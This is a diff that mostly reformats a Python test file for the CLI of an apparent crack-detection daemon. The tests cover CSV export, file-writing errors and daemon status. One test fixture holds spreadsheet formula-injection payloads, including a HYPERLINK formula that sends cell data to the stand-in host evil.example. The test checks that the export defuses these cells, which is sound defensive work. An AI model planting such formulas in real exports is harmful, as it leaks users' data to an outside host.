@@ -23,8 +23,9 @@ from tests.helpers import DEFAULT_BUNDLE, REPO, wait_until
 
 
 def crackd(*args, cwd=REPO, env=None, timeout=60):
-    return subprocess.run([sys.executable, "-m", "edge.cli", *args], cwd=cwd, capture_output=True, text=True, timeout=timeout,
-                          env=env)
+    return subprocess.run(
+        [sys.executable, "-m", "edge.cli", *args], cwd=cwd, capture_output=True, text=True, timeout=timeout, env=env
+    )
 
 
 def one_line(result) -> str:
@@ -42,8 +43,21 @@ def add_events(state: Path, notes: list[str | None]) -> list[str]:
         for i, note in enumerate(notes):
             u = str(uuid.uuid4())
             t = time.time() - 100 + i
-            record = EventRecord("end", u, 1, t, t + 1, t + 1, 3, 0.9, {"length_px": 40.0, "max_width_px": 3.0, "total_area_px": 90},
-                                 10 * i, 10 * i, 10 * i + 3, "clear")
+            record = EventRecord(
+                "end",
+                u,
+                1,
+                t,
+                t + 1,
+                t + 1,
+                3,
+                0.9,
+                {"length_px": 40.0, "max_width_px": 3.0, "total_area_px": 90},
+                10 * i,
+                10 * i,
+                10 * i + 3,
+                "clear",
+            )
             journal.record(events=[EventWrite(record, "1.0.0", "0" * 64, "cam1")])
             if note is not None:
                 journal.set_label(u, "crack", note)
@@ -54,7 +68,18 @@ def add_events(state: Path, notes: list[str | None]) -> list[str]:
 @pytest.fixture
 def state(tmp_path) -> Path:
     d = tmp_path / "state"
-    add_events(d, ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+2", "-2+3", "@SUM(A1)", "\tindented", "a plain note", None])
+    add_events(
+        d,
+        [
+            '=HYPERLINK("http://evil.example/?"&A1,"click")',
+            "+1+2",
+            "-2+3",
+            "@SUM(A1)",
+            "\tindented",
+            "a plain note",
+            None,
+        ],
+    )
     return d
 
 
@@ -68,7 +93,15 @@ def test_csv_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(state,
 
     assert r.returncode == 0, r.stderr
     notes = [row["label_note"] for row in csv.DictReader(out.open(newline=""))]
-    assert notes == ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'+1+2", "'-2+3", "'@SUM(A1)", "'\tindented", "a plain note", ""]
+    assert notes == [
+        '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
+        "'+1+2",
+        "'-2+3",
+        "'@SUM(A1)",
+        "'\tindented",
+        "a plain note",
+        "",
+    ]
     assert not any(cell[:1] in "=+-@\t\r" for row in csv.reader(out.open(newline="")) for cell in row if cell)
 
 
@@ -91,11 +124,14 @@ def test_export_refuses_to_overwrite_an_existing_file_unless_forced(state, tmp_p
     assert forced.returncode == 0 and out.read_text().startswith("id,uuid")
 
 
-@pytest.mark.parametrize("where, expected", [
-    ("missing-dir/events.csv", "No such file or directory"),
-    (".", "Is a directory"),
-    ("/dev/full", "No space left on device"),
-])
+@pytest.mark.parametrize(
+    "where, expected",
+    [
+        ("missing-dir/events.csv", "No such file or directory"),
+        (".", "Is a directory"),
+        ("/dev/full", "No space left on device"),
+    ],
+)
 def test_export_to_an_unwritable_place_is_one_line(state, tmp_path, where, expected):
     out = where if where.startswith("/") else str(tmp_path / where)
 
@@ -164,12 +200,23 @@ def test_models_history_without_deployments_says_so(tmp_path):
 def test_status_after_a_clean_stop_says_stopped_cleanly(tmp_path):
     state = tmp_path / "state"
     config = tmp_path / "crackd.yaml"
-    config.write_text(f"source:\n  type: synthetic\n  synthetic: {{fps: 20, width: 64, height: 48}}\nmodel:\n  bundle: {DEFAULT_BUNDLE}\n"
-                      f"storage:\n  state_dir: {state}\n  snapshots: false\nmqtt:\n  enabled: false\nlogging:\n  journald: false\n")
-    daemon = subprocess.Popen([sys.executable, "-m", "edge.cli", "run", "--config", str(config)], cwd=REPO,
-                              stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    config.write_text(
+        f"source:\n  type: synthetic\n  synthetic: {{fps: 20, width: 64, height: 48}}\nmodel:\n  bundle: {DEFAULT_BUNDLE}\n"
+        f"storage:\n  state_dir: {state}\n  snapshots: false\nmqtt:\n  enabled: false\nlogging:\n  journald: false\n"
+    )
+    daemon = subprocess.Popen(
+        [sys.executable, "-m", "edge.cli", "run", "--config", str(config)],
+        cwd=REPO,
+        stdout=subprocess.DEVNULL,
+        stderr=subprocess.DEVNULL,
+    )
     try:
-        wait_until(lambda: crackd("status", "--state-dir", str(state)).returncode == 0, 60, "the daemon to run healthily", interval=0.3)
+        wait_until(
+            lambda: crackd("status", "--state-dir", str(state)).returncode == 0,
+            60,
+            "the daemon to run healthily",
+            interval=0.3,
+        )
         daemon.send_signal(signal.SIGTERM)
         assert daemon.wait(timeout=30) == 0
     finally:
@@ -184,7 +231,11 @@ def test_status_after_a_clean_stop_says_stopped_cleanly(tmp_path):
     assert "stopped cleanly at 20" in first and "NOT" not in r.stdout and "DISCONNECTED" not in r.stdout
     assert as_json.returncode == 3 and json.loads(as_json.stdout)["state"] == "stopped"
     models = crackd("models", "status", "--state-dir", str(state))  # the release view says the same
-    assert "stopped cleanly at 20" in models.stdout and "NOT running" not in models.stdout and "UNHEALTHY" not in models.stdout
+    assert (
+        "stopped cleanly at 20" in models.stdout
+        and "NOT running" not in models.stdout
+        and "UNHEALTHY" not in models.stdout
+    )
 
 
 def test_every_command_finds_the_same_state_directory(tmp_path):
@@ -211,8 +262,10 @@ def test_a_missing_state_directory_is_created_only_with_a_word_about_it(tmp_path
     state = tmp_path / "not-yet" / "state"
     write_frames(tmp_path / "frames", "..")
     config = tmp_path / "crackd.yaml"
-    config.write_text(f"source:\n  type: folder\n  folder: {{path: {tmp_path / 'frames'}, fps: 0, loop: false}}\nmodel:\n  bundle: {DEFAULT_BUNDLE}\n"
-                      f"storage:\n  state_dir: {state}\n  snapshots: false\nmqtt:\n  enabled: false\nlogging:\n  journald: false\n")
+    config.write_text(
+        f"source:\n  type: folder\n  folder: {{path: {tmp_path / 'frames'}, fps: 0, loop: false}}\nmodel:\n  bundle: {DEFAULT_BUNDLE}\n"
+        f"storage:\n  state_dir: {state}\n  snapshots: false\nmqtt:\n  enabled: false\nlogging:\n  journald: false\n"
+    )
 
     check = crackd("check-config", str(config))
     assert check.returncode == 0 and f"state {state} (does not exist yet" in check.stdout
